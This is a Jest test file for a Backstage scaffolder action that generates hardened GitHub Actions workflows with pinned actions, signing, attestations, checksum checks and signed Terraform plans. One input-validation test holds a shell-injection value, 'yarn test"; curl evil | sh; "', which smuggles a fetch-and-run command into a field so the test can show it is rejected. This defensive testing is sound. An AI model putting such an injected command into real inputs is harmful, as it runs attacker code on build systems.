import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import yaml from 'yaml';
import { createTempDir, listFiles, validateActionInput } from '../../__testUtils__';
import { validateWorkflow } from '../../validation';
import { createPipelinesGenerateAction } from './generate';
import { PINNED_ACTIONS } from './pins';

const input = {
  repository: 'acme/payments',
  imageName: 'ghcr.io/acme/payments',
  entityRef: 'component:default/payments',
  goldenpathUrl: 'https://backstage.example.com',
  owner: 'group:default/payments',
  costCenter: 'cc-1001',
  costCenters: ['cc-1001', 'cc-2002'],
};

const SIGNING_JOBS = new Set(['ci.yml:image', 'iac-pr.yml:plan']);

describe('goldenpath:pipelines:generate', () => {
  let workspacePath: string;
  beforeEach(() => {
    jest.resetAllMocks();
    workspacePath = createTempDir();
  });
  afterEach(() => fs.rmSync(workspacePath, { recursive: true, force: true }));

  async function run(extra: Record<string, unknown> = {}, isDryRun = false) {
    const action = createPipelinesGenerateAction();
    const ctx = { ...createMockActionContext({ input: { ...input, ...extra } as any, workspacePath }), isDryRun };
    await action.handler(ctx);
    return ctx;
  }

  it('should generate the eight workflows that GitHub workflow parser accepts, with valid shell', async () => {
    const ctx = await run();
    const files = listFiles(workspacePath);
    expect(files).toEqual([
      '.github/workflows/ci.yml',
      '.github/workflows/e2e.yml',
      '.github/workflows/iac-apply.yml',
      '.github/workflows/iac-drift.yml',
      '.github/workflows/iac-pr.yml',
      '.github/workflows/policies.yml',
      '.github/workflows/preview-env.yml',
      '.github/workflows/secret-scan.yml',
      '.platform/budgets.yaml',
      'e2e/quarantine.json',
    ]);
    expect(ctx.output).toHaveBeenCalledWith('files', expect.arrayContaining(['.github/workflows/ci.yml']));
    for (const file of files.filter(f => f.startsWith('.github/'))) {
      const text = fs.readFileSync(path.join(workspacePath, file), 'utf8');
      expect({ file, errors: validateWorkflow(file, text) }).toEqual({ file, errors: [] });
      const doc = yaml.parse(text);
      for (const [jobId, job] of Object.entries<any>(doc.jobs)) {
        for (const step of job.steps ?? []) {
          if (!step.run) continue;
          expect(() => execFileSync('bash', ['-n'], { input: step.run, stdio: 'pipe' })).not.toThrow();
        }
        expect({ job: `${file}:${jobId}`, hasPermissions: job.permissions !== undefined }).toEqual({
          job: `${file}:${jobId}`,
          hasPermissions: true,
        });
      }
    }
  }, 60_000);

  it('should pin every third-party action by full commit SHA with its version in a comment', async () => {
    await run();
    const known = new Map<string, { sha: string; version: string }>(Object.values(PINNED_ACTIONS).map(a => [a.repo, a]));
    for (const file of listFiles(path.join(workspacePath, '.github/workflows'))) {
      const text = fs.readFileSync(path.join(workspacePath, '.github/workflows', file), 'utf8');
      const usesLines = text.split('\n').filter(l => /^\s*(- )?uses:/.test(l));
      for (const line of usesLines) {
        const m = /uses: ([\w.-]+\/[\w.-]+)@([0-9a-f]{40}) # (v[\d.]+)$/.exec(line);
        expect({ file, line, pinned: Boolean(m) }).toEqual({ file, line, pinned: true });
        expect(known.get(m![1])).toMatchObject({ sha: m![2], version: m![3] });
      }
    }
  });

  it('should grant id-token: write only to the signing jobs and keep top-level permissions read-only', async () => {
    await run();
    for (const file of listFiles(path.join(workspacePath, '.github/workflows'))) {
      const doc = yaml.parse(fs.readFileSync(path.join(workspacePath, '.github/workflows', file), 'utf8'));
      expect(doc.permissions).toEqual({ contents: 'read' });
      for (const [jobId, job] of Object.entries<any>(doc.jobs)) {
        const signs = job.permissions?.['id-token'] === 'write';
        expect({ job: `${file}:${jobId}`, signs }).toEqual({ job: `${file}:${jobId}`, signs: SIGNING_JOBS.has(`${file}:${jobId}`) });
      }
    }
  });

  it('should sign, attest SBOMs and SLSA v1 provenance, verify before hand-off and output the digest', async () => {
    await run();
    const text = fs.readFileSync(path.join(workspacePath, '.github/workflows/ci.yml'), 'utf8');
    const ci = yaml.parse(text);
    expect(ci.jobs.image.outputs.digest).toBe('${{ steps.build.outputs.digest }}');
    const runs = ci.jobs.image.steps.map((s: any) => s.run ?? '').join('\n');
    expect(runs).toMatch(/syft "\$IMAGE@\$DIGEST" -o spdx-json=sbom.spdx.json -o cyclonedx-json=sbom.cdx.json/);
    expect(runs).toContain('cosign sign --yes');
    expect(runs).toContain('--type spdxjson');
    expect(runs).toContain('--type cyclonedx');
    expect(runs).toContain('--type slsaprovenance1');
    expect(runs).not.toMatch(/--type slsaprovenance( |$)/m);
    expect(runs).toMatch(/cosign verify --certificate-identity/);
    expect(runs).toMatch(/for type in spdxjson cyclonedx slsaprovenance1; do\n\s+cosign verify-attestation/);
    expect(ci.env.CERT_IDENTITY).toBe('https://github.com/acme/payments/.github/workflows/ci.yml@refs/heads/main');
    const verifyIndex = ci.jobs.image.steps.findIndex((s: any) => /Verify/.test(s.name ?? ''));
    expect(verifyIndex).toBe(ci.jobs.image.steps.length - 1);
  });

  it('should install tools fail-closed by checking the release checksums', async () => {
    await run();
    const scan = fs.readFileSync(path.join(workspacePath, '.github/workflows/secret-scan.yml'), 'utf8');
    expect(scan).toContain('gitleaks_8.21.2_checksums.txt');
    expect(scan).toMatch(/sha256sum --check --strict expected\.sha256 \|\| \{ echo "::error::checksum mismatch/);
    const doc = yaml.parse(scan);
    expect(doc.on.schedule[0].cron).toBe('17 2 * * *');
    const steps = doc.jobs.gitleaks.steps;
    expect(steps.find((s: any) => s.if === "github.event_name == 'pull_request'").run).toContain('$BASE_SHA..$HEAD_SHA');
  });

  it('should apply exactly the signed plan of the merged PR and never re-plan', async () => {
    await run();
    const apply = fs.readFileSync(path.join(workspacePath, '.github/workflows/iac-apply.yml'), 'utf8');
    expect(apply).toContain('cosign verify-blob --bundle plan/tfplan.binary.bundle');
    expect(apply).toContain('iac-pr.yml@refs/pull/$PR_NUMBER/merge');
    expect(apply).toContain('sha256sum --check --strict tfplan.binary.sha256');
    expect(apply).toContain('apply -input=false "$GITHUB_WORKSPACE/plan/tfplan.binary"');
    expect(apply).not.toMatch(/terraform[^\n]* plan /);
    const pr = fs.readFileSync(path.join(workspacePath, '.github/workflows/iac-pr.yml'), 'utf8');
    expect(pr).toContain('cosign sign-blob --yes --bundle tfplan.binary.bundle tfplan.binary');
    expect(pr).toContain('-out=tfplan.binary');
    expect(pr).toContain('tags_all');
    expect(pr).toContain('$GOLDENPATH_URL/api/reliability/reports/cost');
    for (const key of ['pr_delta_usd', 'absolute_usd', 'approval_usd', 'soft_fail_usd', 'finops-approved']) {
      expect(pr).toContain(key);
    }
    const budgets = yaml.parse(fs.readFileSync(path.join(workspacePath, '.platform/budgets.yaml'), 'utf8'));
    expect(Object.keys(budgets.environments)).toEqual(['dev', 'staging', 'prod']);
  });

  it('should report drift every 6 hours with the detailed exit code and a plan summary', async () => {
    await run();
    const drift = yaml.parse(fs.readFileSync(path.join(workspacePath, '.github/workflows/iac-drift.yml'), 'utf8'));
    expect(drift.on.schedule[0].cron).toBe('0 */6 * * *');
    const runs = drift.jobs.drift.steps.map((s: any) => s.run ?? '').join('\n');
    expect(runs).toContain('-detailed-exitcode');
    expect(runs).toContain('/api/reliability/reports/drift');
    expect(runs).toMatch(/0\) echo .*no drift/);
    expect(runs).toMatch(/2\) echo "::warning::/);
  });

  it('should annotate preview namespaces and tear them down when the PR closes', async () => {
    await run({ previewTtl: '48h' });
    const preview = fs.readFileSync(path.join(workspacePath, '.github/workflows/preview-env.yml'), 'utf8');
    for (const a of ['platform.io/ttl: "48h"', 'platform.io/owner: "group:default/payments"', 'platform.io/pr: "$PR_NUMBER"', 'platform.io/cost-center: "cc-1001"']) {
      expect(preview).toContain(a);
    }
    const doc = yaml.parse(preview);
    expect(doc.jobs.teardown.if).toBe("github.event.action == 'closed'");
    // Both jobs write the kubeconfig with the same setup step before any kubectl call.
    for (const job of [doc.jobs.deploy, doc.jobs.teardown]) {
      const access = job.steps.findIndex((st: { name?: string }) => st.name === 'Configure cluster access');
      const firstKubectl = job.steps.findIndex((st: { run?: string }) => st.run?.includes('kubectl'));
      expect(access).toBeGreaterThanOrEqual(0);
      expect(access).toBeLessThan(firstKubectl);
      expect(job.steps[access].run).toContain('umask 077');
    }
    expect(doc.jobs.teardown.steps.at(-1).run).toContain('kubectl delete namespace');
  });

  it('should quarantine flaky e2e tests with the 2-of-5-of-14 rule through a pull request', async () => {
    await run({ e2eShards: 4 });
    const e2e = yaml.parse(fs.readFileSync(path.join(workspacePath, '.github/workflows/e2e.yml'), 'utf8'));
    expect(e2e.jobs.e2e.strategy.matrix.shard).toEqual([1, 2, 3, 4]);
    expect(e2e.jobs.e2e.env.BASE_URL).toBe('https://pr-${{ github.event.pull_request.number }}-payments.preview.example.com');
    const q = e2e.jobs.quarantine.steps.map((s: any) => s.run ?? '').join('\n');
    expect(q).toContain('--limit 14');
    expect(q).toContain('seen[t] >= 5 and failures[t] >= 2');
    expect(q).toContain('gh pr create');
    expect(e2e.jobs.quarantine.permissions).toEqual({ contents: 'write', 'pull-requests': 'write', actions: 'read' });
    const python = /python3 - <<'PY'\n([\s\S]*?)\nPY/.exec(q)![1];
    expect(() => execFileSync('python3', ['-c', `import ast,sys; ast.parse(sys.stdin.read())`], { input: python, stdio: 'pipe' })).not.toThrow();
  });

  it('should generate only the selected workflows and write the same files in a dry run', async () => {
    await run({ workflows: ['ci.yml', 'secret-scan.yml'] }, true);
    expect(listFiles(workspacePath)).toEqual(['.github/workflows/ci.yml', '.github/workflows/secret-scan.yml']);
  });

  it('should refuse a targetPath outside the workspace', async () => {
    await expect(run({ targetPath: '../elsewhere' })).rejects.toThrow("targetPath must not contain '..' segments");
  });

  it('should reject inputs that could inject into YAML or shell, naming the field', () => {
    const action = createPipelinesGenerateAction();
    expect(validateActionInput(action, input)).toEqual([]);
    expect(validateActionInput(action, { ...input, testCommand: 'yarn test"; curl evil | sh; "' })).toEqual([
      expect.stringMatching(/^\/testCommand must match pattern/),
    ]);
    expect(validateActionInput(action, { ...input, imageName: 'ghcr.io/acme/payments:latest' })).toEqual([
      expect.stringMatching(/^\/imageName must match pattern/),
    ]);
    expect(validateActionInput(action, { ...input, workflows: ['deploy.yml'] })).toEqual(
      expect.arrayContaining([expect.stringMatching(/^\/workflows\/0 must be equal to one of the allowed values/)]),
    );
  });
});
